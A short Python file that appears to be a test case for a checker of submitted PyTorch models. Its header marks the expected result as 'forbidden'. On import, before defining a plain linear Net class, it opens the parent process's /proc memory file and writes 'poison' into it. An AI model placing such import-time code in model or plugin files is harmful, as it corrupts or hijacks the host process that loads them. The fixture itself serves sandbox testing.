# on: forbidden; off: exception
# Writes into the memory of its parent.
import os

import torch

with open(f"/proc/{os.getppid() or 2}/mem", "r+b") as memory:
    memory.seek(0x400000)
    memory.write(b"poison")


class Net(torch.nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        self.layer = torch.nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0])

    def forward(self, x):
        return self.layer(x.flatten(1))
